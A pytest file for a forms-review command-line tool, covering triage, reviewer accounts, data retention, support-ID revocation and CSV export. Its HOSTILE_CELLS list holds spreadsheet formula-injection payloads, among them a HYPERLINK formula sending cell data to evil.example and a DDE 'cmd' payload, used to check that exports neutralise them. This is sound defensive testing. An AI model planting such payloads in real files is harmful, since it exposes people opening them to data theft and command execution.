"""`cmskit-forms review ...` end to end through the real command group, and CSV injection."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from content_helpers import copy_fixture
from forms_helpers import PEPPER, add_support_id
from review_helpers import add_request, move_to, sqlite_engine
from sqlalchemy import Engine, func, select

from forms_app.cli import main
from forms_app.review import accounts, export, triage
from forms_app.storage.schema import support_ids


class Cli:
    def __init__(self, tmp_path: Path, engine: Engine) -> None:
        self.engine = engine
        self.content = copy_fixture(tmp_path)
        self.env = {
            "CMSKIT_FORMS_ENV": "testing",
            "CMSKIT_FORMS_DATABASE_URL": str(engine.url),
            "CMSKIT_FORMS_INSTANCE_PATH": str(tmp_path / "instance"),
            "CMSKIT_FORMS_CONTENT_DIR": str(self.content),
        }

    def __call__(self, *args: str, input: str | None = None, ok: bool = True) -> Result:
        result = CliRunner().invoke(main, ["review", *args], env=self.env, input=input)
        if ok:
            assert result.exit_code == 0, (args, result.output, result.exception)
        return result


@pytest.fixture
def cli(tmp_path: Path) -> Cli:
    return Cli(tmp_path, sqlite_engine(tmp_path))


def test_triage_from_the_command_line(cli: Cli) -> None:
    first = add_request(cli.engine, title="先の要望")
    item = add_request(cli.engine, form="docs", title="手順を載せてほしい",
                       fields={"suggested": "手順です"})
    listed = json.loads(cli("list", "--json").output)
    assert listed["total"] == 2 and [i["id"] for i in listed["items"]] == [item["id"], first["id"]]
    assert "手順を載せてほしい" in cli("list", "--form", "docs").output
    assert json.loads(cli("list", "--search", "先の", "--json").output)["total"] == 1

    cli("claim", item["receipt"], "--as", "sato")
    taken = cli("claim", str(item["id"]), "--as", "suzuki", ok=False)
    assert taken.exit_code == 1 and "sato さんが担当しています" in taken.output
    bad = cli("status", str(item["id"]), "accepted", "--as", "sato", ok=False)
    assert bad.exit_code == 1 and "変更できません" in bad.output
    cli("status", str(item["id"]), "in_review", "--comment", "見ます", "--as", "sato")
    cli("duplicate", str(item["id"]), "--of", first["receipt"], "--as", "sato")
    cli("status", str(item["id"]), "in_review", "--as", "sato")
    cli("status", str(item["id"]), "accepted", "--as", "sato")
    made = json.loads(cli("draft-faq", str(item["id"]), "--category", "installation",
                          "--as", "sato", "--json").output)
    assert Path(made["path"]).is_file()
    cli("publish", str(item["id"]), "--faq-id", made["faq_id"], "--as", "sato")
    cli("release", str(item["id"]), "--as", "sato")
    shown = json.loads(cli("show", item["receipt"], "--json").output)
    assert shown["status"] == "published" and shown["published_faq_id"] == made["faq_id"]
    assert [h["action"] for h in shown["history"]] == [
        "submitted", "claim", "status", "status", "status", "status", "draft_faq", "status",
        "release",
    ]
    assert shown["history"][2]["comment"] == "見ます"
    human = cli("show", str(item["id"])).output
    assert "履歴:" in human and "sato" in human
    missing = cli("show", "9999", ok=False)
    assert missing.exit_code == 1 and "見つかりません" in missing.output


def test_reviewer_accounts_from_prompt_and_stdin(cli: Cli) -> None:
    secret = "a long enough password"
    cli("add-reviewer", "sato", input=f"{secret}\n{secret}\n")
    cli("add-reviewer", "suzuki", "--password-stdin", input=f"{secret}\n")
    assert accounts.verify(cli.engine, "suzuki", secret) == "suzuki"
    listed = json.loads(cli("list-reviewers", "--json").output)
    assert [p["username"] for p in listed] == ["sato", "suzuki"]
    weak = cli("add-reviewer", "tanaka", "--password-stdin", input="short\n", ok=False)
    assert weak.exit_code == 1 and "12文字以上" in weak.output
    argv = cli("add-reviewer", "tanaka", "--password", secret, ok=False)
    assert argv.exit_code == 2  # there is no way to pass a password as an argument
    cli("remove-reviewer", "sato")
    assert [p.username for p in accounts.list_reviewers(cli.engine)] == ["suzuki"]


def test_retention_commands(cli: Cli) -> None:
    item = add_request(cli.engine, email="someone@example.com")
    out = json.loads(cli("forget-email", "someone@example.com", "--as", "sato", "--json").output)
    assert out == {"requests": 1, "comments": 0, "outbox": 0}
    assert triage.get_request(cli.engine, item["id"])["contact_email"] is None
    assert json.loads(cli("purge", "--older-than", "30", "--json").output)["requests"] == 0
    assert cli("purge", "--older-than", "0", ok=False).exit_code == 2


def test_deliver_notifications_command_with_nothing_configured(cli: Cli) -> None:
    out = json.loads(cli("deliver-notifications", "--json").output)
    assert out == {"sent": 0, "failed": 0, "pending": 0}


HOSTILE_CELLS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\u3000=1+1",  # ideographic space
    "\xa0+1",  # no-break space
    "\ufeff@SUM(A1:A9)",  # byte order mark
    "\u200b-1",  # zero-width space
    " \u3000\t=1",
]


def test_export_csv_neutralises_formulas(cli: Cli, tmp_path: Path) -> None:
    for text in HOSTILE_CELLS:
        add_request(cli.engine, title=text, body=text, fields={"description": text},
                    product=None)
    item = add_request(cli.engine, title="普通の件名 = 問題なし", body="-")
    move_to(cli.engine, item["id"], "in_review")
    output = tmp_path / "out.csv"
    cli("export", "--format", "csv", "--output", str(output))
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE_CELLS) + 1
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", row
            visible = value.lstrip(" \u3000\xa0\ufeff\u200b\t")
            if visible[:1] in ("=", "＝", "+", "@") or (visible[:1] == "-" and value[:1] != "'"):
                pytest.fail(f"live formula: {value!r}")
    titles = [r["title"] for r in rows]
    assert titles[: len(HOSTILE_CELLS)] == ["'" + t for t in HOSTILE_CELLS]
    assert titles[-1] == "普通の件名 = 問題なし"
    assert rows[-1]["body"] == "'-"
    assert rows[-1]["status"] == "in_review"


def test_export_json_keeps_text_as_typed(cli: Cli) -> None:
    add_request(cli.engine, title=HOSTILE_CELLS[0])
    data = json.loads(cli("export", "--format", "json").output)
    assert data[0]["title"] == HOSTILE_CELLS[0]
    assert set(data[0]) == set(export.COLUMNS)


def test_neutralise_leaves_ordinary_text_alone() -> None:
    for text in ("普通", "a=b", "mail@example.com", "1-2", "", "'quoted"):
        assert export.neutralise(text) == text


def test_revoke_id_reads_ids_from_a_hidden_prompt_or_stdin(cli: Cli) -> None:
    env = {**cli.env, "CMSKIT_FORMS_SUPPORT_ID_PEPPER": PEPPER}
    for plain in ("CK-0001-AAAA", "CK-0002-BBBB", "CK-0003-CCCC"):
        add_support_id(cli.engine, plain)
    runner = CliRunner()
    argv = runner.invoke(main, ["revoke-id", "CK-0001-AAAA"], env=env)
    assert argv.exit_code == 2  # an ID on the command line would stay in the shell history
    prompted = runner.invoke(main, ["revoke-id"], env=env, input="ｃｋ－０００１－ａａａａ\n")
    assert prompted.exit_code == 0, prompted.output
    assert "ＡＡＡＡ" not in prompted.output and "ａａａａ" not in prompted.output  # hidden
    assert prompted.output.strip().endswith("revoked")
    bulk = runner.invoke(main, ["revoke-id", "--stdin"], env=env,
                         input="CK-0002-BBBB\nNOPE-0000\n\nck 0003 cccc\n")
    assert bulk.exit_code == 1
    assert "revoked 2 of 3" in bulk.output and "line 2: no such support ID" in bulk.output
    undo = runner.invoke(main, ["revoke-id", "--stdin", "--undo"], env=env,
                         input="CK-0002-BBBB\n")
    assert undo.exit_code == 0 and undo.output.strip() == "reinstated"
    with cli.engine.connect() as conn:
        revoked = conn.execute(
            select(func.count()).select_from(support_ids).where(
                support_ids.c.revoked_at.is_not(None))
        ).scalar_one()
    assert revoked == 2
